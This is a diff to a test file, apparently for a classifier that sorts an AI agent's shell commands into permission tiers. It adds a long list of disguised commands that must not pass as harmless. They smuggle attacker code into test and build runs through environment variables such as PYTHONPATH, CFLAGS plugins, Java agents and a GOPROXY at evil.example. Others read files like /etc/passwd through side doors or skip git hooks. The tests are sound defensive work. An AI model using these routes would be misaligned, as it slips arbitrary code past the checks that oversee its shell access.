@@ -70,6 +70,71 @@ echo $MYSQL_PWD
 echo $SSHPASS
 echo "${DB_PASS}"
 echo $SIGNING_KEY
+GLOBIGNORE=x; cat *
+EXECIGNORE=ls ls
+PYTHONPATH=/tmp/x pytest
+PYTHONPATH=src:/tmp/x pytest
+PYTHONPATH=../x pytest
+PYTHONPATH=src/../../x pytest
+PYTHONPATH=~/x pytest
+PYTHONPATH=$X pytest
+PYTHONWARNINGS=error::evil.X pytest
+PYTHONUSERBASE=/tmp/x pytest
+PYTHONPLATLIBDIR=x pytest
+MYPYPATH=/tmp/x mypy .
+VIRTUAL_ENV=/tmp/x uv run pytest
+NODE_PATH=/tmp/x npm test
+MAKEFILES=evil.mk make test
+GNUMAKEFLAGS=--eval=x make test
+MFLAGS=x make test
+SHELL=./evil make
+AR=./evil make
+CFLAGS=-fplugin=./evil.so make
+CFLAGS='-O2 -fplugin=./evil.so' make
+CXXFLAGS=-Wl,-plugin,./x make
+LDFLAGS=-fuse-ld=./x make
+CGO_CFLAGS=-fplugin=x go build
+CGO_CFLAGS_ALLOW=.* go build
+GOROOT=/tmp/x go test
+GOTOOLCHAIN=x go test
+GOPROXY=https://evil.example go build
+PKG_CONFIG=./evil go build
+RUSTUP_TOOLCHAIN=x cargo build
+JAVA_HOME=/tmp/x mvn test
+MAVEN_OPTS=-javaagent:x mvn test
+GRADLE_OPTS=-javaagent:x gradle test
+JDK_JAVA_OPTIONS=-javaagent:x javac X.java
+SBT_OPTS=-javaagent:x sbt test
+DOTNET_STARTUP_HOOKS=x dotnet test
+ERL_FLAGS='-eval x' mix test
+ELIXIR_ERL_OPTIONS='-eval x' mix test
+GEM_HOME=/tmp/x rspec
+SPEC_OPTS='-r evil' rspec
+PHP_INI_SCAN_DIR=x phpunit
+COVERAGE_PROCESS_START=x pytest
+TOXENV=deploy tox
+TOX_OVERRIDE=x tox
+NOXSESSION=publish nox
+PYLINTRC=x pylint a
+PYLINTHOME=/etc pylint a
+HUSKY=0 git commit -m x
+SKIP=all git commit -m x
+OPENSSL_CONF=x pytest
+MALLOC_TRACE=.git/config ls
+TZ=:.env date
+TZ=/etc/passwd date
+LOCPATH=x ls
+TERMINFO=x ls
+export PYTHONPATH=/tmp/x; pytest
+for MAKEFILES in x; do make test; done
+pytest --tx popen//python=./evil
+pytest --cov --cov-config=x
+python -m coverage run --rcfile=x -m pytest
+pnpx jest
+pnpm dlx jest
+yarn dlx jest
+hatch run deploy
+uv run mypy --python-executable ./evil .
 """.strip().split("\n")
 
 BESIDE = """
@@ -103,6 +168,25 @@ rg token
 rg -g '*.py' --hidden token
 echo $PWD $OLDPWD $PATH
 PASS=1; echo $PASS
+PYTHONPATH=. pytest
+PYTHONPATH=src:lib pytest
+PYTHONPATH="$PWD/src" pytest
+PYTHONPATH=$(pwd)/src:$PYTHONPATH python -m pytest
+PYTHONUNBUFFERED=1 PYTHONDONTWRITEBYTECODE=1 pytest
+PYTHONWARNINGS=error pytest
+TZ=UTC date
+TZ=Europe/Berlin date
+CFLAGS='-O2 -Wall -g' make
+CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build ./...
+GOMAXPROCS=2 go test ./...
+DOTNET_NOLOGO=1 dotnet test
+TOXENV=py311 tox
+CI=1 DEBUG=x NODE_ENV=test npm test
+LANG=C LC_ALL=C sort a
+pnpm exec jest
+hatch run test
+uv run ruff check .
+pdm run pytest
 """.strip().split("\n")
 
 
@@ -114,6 +198,17 @@ def test_a_way_that_was_found_is_closed(command: str) -> None:
 @pytest.mark.parametrize("command", BESIDE)
 def test_what_stands_beside_it_stays_free(command: str) -> None:
     assert tier("Bash", {"command": command}) is Tier.FREE
+
+
+def test_a_task_of_the_project_is_not_the_shells_test() -> None:
+    assert {one.type for one in classify("Bash", {"command": "hatch run test"}, cwd=CWD).actions} == {"test"}
+
+
+@pytest.mark.parametrize("name", ["PYTHONPATH", "CFLAGS", "PYTHONWARNINGS", "TZ", "TOXENV"])
+@pytest.mark.parametrize("value", ["a", "-W", "-Wa", "a:", "a/", ".", "-O ", "py", "A/", "$PWD"])
+def test_no_value_of_a_variable_is_read_in_more_than_one_way(name: str, value: str) -> None:
+    """Patterns that could match a part in two ways would need for ever here."""
+    assert tier("Bash", {"command": f"{name}='{value * 1000}!' make test"}) is not Tier.FREE
 
 
 def test_the_branch_that_a_copy_makes_is_the_last_that_is_named() -> None:
